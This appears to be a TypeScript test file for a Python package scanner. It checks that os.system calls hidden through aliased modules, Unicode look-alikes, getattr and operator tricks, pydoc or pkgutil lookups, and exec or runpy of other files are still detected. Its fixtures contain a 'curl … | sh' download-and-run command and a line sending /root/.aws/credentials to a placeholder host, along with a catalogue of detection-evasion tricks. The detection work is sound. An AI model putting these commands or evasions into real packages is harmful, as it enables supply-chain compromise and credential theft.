import { describe, expect, it } from 'vitest'
import { usesOf } from '../node/source-facts.test-support.ts'
import { untrustedText } from '../base/display.ts'
import type { WheelFacts } from '../model/facts.ts'

const COMMAND = '"curl https://x.invalid/p | sh"'
const shellsOf = async (files: Record<string, string>, more = {}): Promise<string[]> =>
  (await usesOf(files, more)).filter((use) => use.includes('os.system')).map((use) => use.split(' ').slice(0, 3).join(' '))

describe('a module that another module holds is that module', () => {
  it.each([
    ['import shutil', `shutil.os.system(${COMMAND})`],
    ['from shutil import os', `os.system(${COMMAND})`],
    ['import os.path as p', `p.os.system(${COMMAND})`],
    ['from os import path', `path.os.system(${COMMAND})`],
    ['import tempfile', `tempfile._os.system(${COMMAND})`],
    ['import os', `os.\u017fystem(${COMMAND})`],
    ['import os', `os.system.__call__(${COMMAND})`],
    ['import os', `os.__getattribute__("system")(${COMMAND})`],
    ['import os', `object.__getattribute__(os, "system")(${COMMAND})`],
    ['import os, operator', `operator.attrgetter("system")(os)(${COMMAND})`],
    ['import os, operator', `operator.methodcaller("system", ${COMMAND})(os)`],
    ['import pkgutil', `pkgutil.resolve_name("os:system")(${COMMAND})`],
    ['import pydoc', `pydoc.locate("os.system")(${COMMAND})`],
  ])('%s; %s', async (imported, call) => {
    expect(await shellsOf({ 'demo/__init__.py': `${imported}\n${call}\n` })).toEqual(['import process os.system'])
  })

  it('but asyncio has a subprocess of its own', async () => {
    const uses = await usesOf({ 'demo/__init__.py': 'import asyncio\nx = asyncio.subprocess.PIPE\n' })
    expect(uses).toEqual([])
  })
})

describe('what is executed from a file of the artifact runs where it is executed', () => {
  const inner = `import os\nos.system(${COMMAND})\n`
  it.each([
    'exec(open("tests/b.py").read())',
    'import os\nexec(compile(open(os.path.join(os.path.dirname(__file__), "tests", "b.py")).read(), "b", "exec"))',
    'import pathlib\nexec(pathlib.Path("tests/b.py").read_text())',
    'import runpy\nrunpy.run_path("tests/b.py")',
  ])('%j', async (code) => {
    expect(await shellsOf({ 'setup.py': `${code}\n`, 'tests/b.py': inner })).toEqual(['install process os.system'])
  })
})

describe('a name does not make a test of what users import', () => {
  const code = `import os\nos.system(${COMMAND})\n`
  const ofWheel = async (path: string, entryPoint?: string): Promise<string[]> => {
    const members = [{ path: untrustedText(path), kind: 'file', size: 100 }]
    const entryPoints =
      entryPoint === undefined
        ? []
        : [{ group: untrustedText('pytest11'), name: untrustedText('x'), target: untrustedText(entryPoint), line: 1 }]
    const wheel: WheelFacts = {
      distInfo: 'demo-1.0.dist-info',
      tags: [],
      rootIsPurelib: true,
      problems: [],
      entryPoints,
      dataMembers: [],
      startupFiles: [],
      topLevel: [],
    }
    return shellsOf(
      { [path]: code, ...(entryPoint === undefined ? {} : { 'demo/__init__.py': '' }) },
      entryPoint === undefined
        ? {}
        : { wheel, members: [...members, { path: untrustedText('demo/__init__.py'), kind: 'file', size: 0 }] },
    )
  }
  it.each(['testing/__init__.py', 'fixtures/__init__.py', 'requests_test.py', 'demo-1.0.data/purelib/tests/__init__.py'])(
    '%s, the only top-level name of a wheel',
    async (path) => {
      expect(await ofWheel(path)).toEqual(['import process os.system'])
    },
  )

  it('a module that an entry point names', async () => {
    expect(await ofWheel('test_plug.py', 'test_plug')).toEqual(['import process os.system'])
  })

  it('tests beside a package stay tests', async () => {
    expect(await shellsOf({ 'demo/__init__.py': '', 'tests/__init__.py': code, 'demo/tests/test_a.py': code })).toEqual([])
  })
})

describe('words that make a module of a large artifact worth reading', () => {
  const padding = Object.fromEntries(
    [1, 2, 3].map((n) => [`demo/data${n}.py`, `X = ${'"0123456789abcdef"\nX = '.repeat(3000)}1\n`]),
  )
  it.each([
    'from six.moves import (  # ) a comment\n    urllib,\n)\nurllib.request.urlopen("https://x.invalid/", data=open("/root/.aws/credentials", "rb").read())\n',
    'import shutil\nshutil.os.system("curl https://x.invalid/p | sh")\n',
  ])('%j', async (code) => {
    expect(await usesOf({ ...padding, 'demo/__init__.py': '', 'demo/other.py': code })).not.toEqual([])
  })
})
